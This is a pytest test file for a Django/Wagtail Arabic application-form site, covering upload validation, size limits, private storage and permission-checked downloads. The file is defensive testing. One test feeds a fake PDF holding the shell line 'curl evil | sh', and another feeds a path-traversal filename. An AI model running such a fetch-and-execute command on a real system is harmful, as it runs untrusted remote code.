from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from django.conf import settings
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from wagtail.models import GroupPagePermission

from applications.models import Submission, SubmissionFile
from tests.applications.conftest import PDF, PNG, answers, docx_bytes, not_found, token_of
from tests.factories import ApplicationFormPageFactory


def upload(name, content, content_type="application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def error_of(response, field="document"):
    soup = BeautifulSoup(response.content, "html.parser")
    error = soup.find(id=f"id_{field}_error")
    return error.get_text(strip=True) if error else None


@pytest.mark.django_db
class TestUploads:
    def test_a_document_is_stored_privately_under_a_safe_name(self, submit, private_media):
        response = submit(document=upload("../../ملف التأسيس.pdf", PDF))
        assert response.status_code == 200
        stored = SubmissionFile.objects.get()
        assert stored.name == "ملف-التأسيس.pdf"
        assert stored.kind == "pdf"
        assert stored.size == len(PDF)
        path = Path(stored.file.path)
        assert path.read_bytes() == PDF
        assert private_media in path.parents
        assert Path(settings.MEDIA_ROOT) not in path.parents
        assert Submission.objects.get().form_data["document"] == "ملف-التأسيس.pdf"

    @pytest.mark.parametrize(("name", "content"), [("photo.png", PNG), ("cv.docx", docx_bytes())])
    def test_images_and_word_documents_are_accepted(self, submit, name, content):
        submit(document=upload(name, content, "application/octet-stream"))
        assert SubmissionFile.objects.get().name == name

    def test_a_script_renamed_pdf_is_refused(self, submit):
        response = submit(document=upload("cv.pdf", b"#!/bin/sh\ncurl evil | sh\n"))
        assert Submission.objects.count() == 0
        assert "ليس مستند PDF" in error_of(response)

    def test_an_empty_file_is_refused(self, submit):
        response = submit(document=upload("empty.pdf", b""))
        assert Submission.objects.count() == 0
        assert error_of(response)

    def test_an_oversized_file_is_refused_with_the_limit(self, submit):
        response = submit(document=upload("big.pdf", PDF + b"0" * (1024 * 1024)))
        assert Submission.objects.count() == 0
        assert "أكبر من" in error_of(response)

    def test_the_size_limit_is_set_per_field(self, client, forms_index, submit):
        page = ApplicationFormPageFactory(
            parent=forms_index,
            fields=[
                {"clean_name": "file", "label": "ملف", "field_type": "file", "max_upload_mb": 3}
            ],
        )
        response = submit(page=page, file=upload("big.pdf", PDF + b"0" * (2 * 1024 * 1024)))
        assert response.status_code == 200
        assert SubmissionFile.objects.count() == 1

    def test_a_field_never_takes_more_than_the_site_reads(self, forms_index, submit, settings):
        settings.UPLOAD_MAX_MB = 1
        page = ApplicationFormPageFactory(
            parent=forms_index,
            fields=[
                {"clean_name": "file", "label": "ملف", "field_type": "file", "max_upload_mb": 3}
            ],
        )
        response = submit(page=page, file=upload("big.pdf", PDF + b"0" * (1024 * 1024)))
        assert Submission.objects.count() == 0
        assert "1 ميغابايت" in error_of(response, "file")

    def test_two_files_in_one_field_are_refused_keeping_the_answers(self, submit):
        response = submit(document=[upload("a.pdf", PDF), upload("b.pdf", PDF)])
        assert response.status_code == 200
        assert Submission.objects.count() == 0
        assert error_of(response) == "اختر ملفًا واحدًا فقط لهذا الحقل."
        soup = BeautifulSoup(response.content, "html.parser")
        assert soup.find("input", {"name": "full_name"})["value"] == "سارة الأحمد"

    def test_a_body_larger_than_any_upload_is_refused_before_it_is_read(
        self, client, form_page, settings
    ):
        # The body is a few bytes: reading the announced length from it would fail the test.
        response = client.post(
            form_page.url,
            data=b"x",
            content_type="multipart/form-data; boundary=x",
            CONTENT_LENGTH=str(settings.REQUEST_BODY_MAX_BYTES + 1),
        )
        assert response.status_code == 413
        page = BeautifulSoup(response.content, "html.parser")
        assert (page.html["lang"], page.html["dir"]) == ("ar", "rtl")
        assert "20 ميغابايت" in page.get_text()
        assert Submission.objects.count() == 0

    def test_a_body_within_the_limit_is_read(self, client, form_page, settings):
        settings.REQUEST_BODY_MAX_BYTES = 1024
        token = token_of(client.get(form_page.url))
        response = client.post(form_page.url, {"form_token": token, **answers()})
        assert response.status_code == 200
        assert Submission.objects.count() == 1

    def test_a_required_file_must_be_chosen(self, forms_index, submit):
        page = ApplicationFormPageFactory(
            parent=forms_index,
            fields=[{"clean_name": "file", "label": "ملف", "field_type": "file"}],
        )
        response = submit(page=page)
        assert error_of(response, "file") == "هذا الحقل مطلوب."

    def test_files_are_deleted_with_their_submission(self, submit):
        submit(document=upload("a.pdf", PDF))
        path = Path(SubmissionFile.objects.get().file.path)
        Submission.objects.get().delete()
        assert not path.exists()


@pytest.mark.django_db
class TestDownload:
    @pytest.fixture
    def stored(self, submit):
        submit(document=upload("a.pdf", PDF))
        return SubmissionFile.objects.get()

    @pytest.mark.parametrize("prefix", [settings.MEDIA_URL, settings.STATIC_URL, "/", "/ar/"])
    def test_no_public_route_serves_it(self, client, stored, development_urls, prefix):
        # The development server (`make run`) serves the most: media and static folders.
        for name in (stored.file.name, Path(stored.file.name).name):
            response = client.get(f"{prefix}{name}", follow=True)
            assert response.status_code == 404, f"{prefix}{name}"

    def test_anonymous_visitors_are_sent_to_log_in(self, client, stored):
        response = client.get(reverse("applications_download", args=[stored.pk]))
        assert response.status_code == 302
        assert "/admin/login/" in response["Location"]

    def test_an_editor_allowed_to_see_the_form_downloads_it(self, client, stored, admin_user):
        client.force_login(admin_user)
        response = client.get(reverse("applications_download", args=[stored.pk]))
        assert response.status_code == 200
        assert b"".join(response.streaming_content) == PDF
        assert response["Content-Type"] == "application/pdf"
        assert "attachment" in response["Content-Disposition"]
        assert response["X-Content-Type-Options"] == "nosniff"

    def test_a_file_kept_in_object_storage_is_streamed_the_same_way(
        self, client, submit, admin_user, bucket
    ):
        remote = bucket(SubmissionFile, "file")
        submit(document=upload("a.pdf", PDF))
        stored = SubmissionFile.objects.get()
        assert remote.exists(stored.file.name)
        client.force_login(admin_user)
        response = client.get(reverse("applications_download", args=[stored.pk]))
        assert response.status_code == 200
        assert b"".join(response.streaming_content) == PDF
        assert "attachment" in response["Content-Disposition"]
        assert "no-store" in response["Cache-Control"]

    def test_an_editor_of_other_pages_is_refused(
        self, client, stored, forms_index, django_user_model
    ):
        other = ApplicationFormPageFactory(parent=forms_index.get_parent())
        group = Group.objects.create(name="محررو استمارة أخرى")
        group.permissions.add(Permission.objects.get(codename="access_admin"))
        GroupPagePermission.objects.create(group=group, page=other, permission_type="change")
        user = django_user_model.objects.create_user("editor", password="x")
        user.groups.add(group)
        client.force_login(user)
        response = client.get(reverse("applications_download", args=[stored.pk]))
        # Editing a form page gives no access to its applicants' files.
        assert not_found(client, response)
